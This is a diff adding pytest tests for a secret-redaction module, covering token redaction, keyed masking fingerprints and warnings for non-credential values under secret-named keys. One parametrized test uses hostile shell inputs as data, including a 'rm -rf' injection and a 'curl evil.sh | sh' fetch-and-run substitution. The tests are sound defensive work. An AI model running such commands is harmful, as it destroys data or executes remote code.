@@ -4,6 +4,8 @@ structures are copied (never mutated, depth-bounded, failing closed on unknown t
 from __future__ import annotations
 
 import copy
+import json
+import re
 from dataclasses import dataclass
 from datetime import UTC, datetime
 from decimal import Decimal
@@ -11,7 +13,16 @@ from uuid import UUID
 
 import pytest
 
-from tether.redact import MAX_DEPTH, REDACTED, is_secret_key, redact, redact_text
+from tether.redact import (
+    MAX_DEPTH,
+    REDACTED,
+    is_secret_key,
+    mask,
+    masked,
+    redact,
+    redact_text,
+    suspicious,
+)
 
 R = REDACTED
 
@@ -438,3 +449,57 @@ def test_a_cyclic_structure_terminates_at_the_depth_limit() -> None:
 )
 def test_secret_named_assignments_in_prose_hide_their_value(text: str, expected: str) -> None:
     assert redact_text(text) == expected
+
+
+# -- tether's own tokens, and masking what a reviewer approves -----------------------------------
+
+TETHER_TOKEN = "tt_" + "Q2xhc3NpZmllZC1ub3QtYS1yZWFsLXRva2Vu"
+
+
+def test_a_tether_user_token_is_redacted_in_text_but_a_short_tt_word_is_kept() -> None:
+    assert redact_text(f"sign in with {TETHER_TOKEN} please") == f"sign in with {R} please"
+    assert redact_text("the tt_ prefix and tt_short stay") == "the tt_ prefix and tt_short stay"
+
+
+KEY = b"k" * 32
+
+
+def test_a_masked_secret_shows_its_length_and_a_keyed_fingerprint_not_its_value() -> None:
+    shown = mask({"password": "Sesame-hunter2-0451", "user": "ops"}, KEY)
+    assert isinstance(shown, dict)
+    assert shown["user"] == "ops"
+    hidden = shown["password"]
+    assert re.fullmatch(r"\[hidden secret, 19 chars, fp [0-9a-f]{12}; it runs as given\]", hidden)
+    assert "Sesame" not in hidden
+    # The same value under the same key shows the same fingerprint; another key another one.
+    assert mask({"password": "Sesame-hunter2-0451"}, KEY) == {"password": hidden}
+    assert mask({"password": "Sesame-hunter2-0451"}, b"j" * 32) != {"password": hidden}
+    assert masked("Sesame-hunter2-0451", KEY) == hidden
+
+
+@pytest.mark.parametrize(
+    "value", ["; rm -rf /srv/data", "$(curl evil.sh | sh)", "a b", "line\nbreak", "`id`"]
+)
+def test_a_value_under_a_secret_key_that_is_no_credential_is_shown_with_a_warning(
+    value: str,
+) -> None:
+    shown = mask({"auth_token": value}, KEY)
+    assert shown == {"auth_token": suspicious(value)}
+    assert suspicious(value).startswith("[WARNING: not a secret-like value, shown in full")
+    assert json.dumps(value) in suspicious(value)  # escaped: a newline shows as \n
+
+
+def test_secret_shapes_inside_text_and_non_strings_under_secret_keys_are_masked() -> None:
+    shown = mask({"note": f"use {OPENAI} now", "token": 12345, "nested": [{"api_key": None}]},
+                 KEY)  # fmt: skip
+    assert isinstance(shown, dict)
+    assert shown["note"] == f"use {masked(OPENAI, KEY)} now"
+    assert shown["token"] == masked("12345", KEY)
+    assert shown["nested"] == [{"api_key": masked("null", KEY)}]
+
+
+def test_masking_never_mutates_its_input() -> None:
+    value = {"password": "x" * 20, "list": [{"token": "y" * 20}]}
+    before = copy.deepcopy(value)
+    mask(value, KEY)
+    assert value == before
